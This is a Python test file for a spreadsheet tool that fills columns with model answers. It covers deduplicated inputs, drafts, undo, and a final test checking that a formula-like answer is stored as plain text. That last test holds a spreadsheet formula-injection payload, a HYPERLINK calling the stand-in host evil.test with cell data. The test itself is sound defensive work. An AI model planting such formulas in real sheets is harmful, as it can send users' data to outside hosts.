"""Workers over real services and the simulator: every row once, on both databases."""

from pathlib import Path

import pytest
from pydantic import JsonValue

from chatsheet.core.identity import LOCAL
from tests.jobs.rig import Judge, open_office, working

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("each_database")]


async def test_a_job_fills_a_column_and_asks_each_different_input_once(tmp_path: Path) -> None:
    async with open_office(tmp_path, rows=60, distinct=20) as office, working(office.services.worker()):
        job = await office.ended((await office.begin()).id)
        assert (job.state, job.progress.done_rows, job.progress.done_inputs) == ("completed", 60, 20)
        assert await office.column() == ["good"] * 60
        assert office.judge.asked.total() == 20


async def test_a_draft_has_real_answers_of_a_sample_that_are_not_asked_again(tmp_path: Path) -> None:
    async with open_office(tmp_path, rows=30) as office, working(office.services.worker()):
        draft = await office.until((await office.draft()).id, lambda job: job.is_settled)
        assert [row.value for row in draft.sample] == ["good"] * 5
        assert (draft.progress.rows, draft.estimate.tokens_p50, office.judge.asked.total()) == (30, 120, 5)
        await office.services.jobs.start(LOCAL, draft.id)
        await office.ended(draft.id)
        assert office.judge.asked.total() == 30


async def test_one_undo_takes_a_job_back(tmp_path: Path) -> None:
    async with open_office(tmp_path) as office, working(office.services.worker()):
        before = (await office.services.library.open(LOCAL, office.sheet_id)).sheet.version
        job = await office.ended((await office.begin()).id)
        undone = await office.services.library.undo(LOCAL, office.sheet_id, expected_version=job.result_version)
        assert undone.sheet.version == before


async def test_what_looks_like_a_formula_is_a_text_in_the_sheet(tmp_path: Path) -> None:
    from tests.jobs.rig import ORDER  # noqa: PLC0415

    def formula(comment: str) -> JsonValue:
        return {"value": f'=HYPERLINK("http://evil.test/{comment}")', "confidence": 1, "reason": ""}

    order = ORDER.model_copy(update={"choices": ()})
    async with open_office(tmp_path, rows=2, judge=Judge(judge=formula)) as office, working(office.services.worker()):
        await office.ended((await office.begin(order)).id)
        assert await office.column() == ['=HYPERLINK("http://evil.test/c0")', '=HYPERLINK("http://evil.test/c1")']
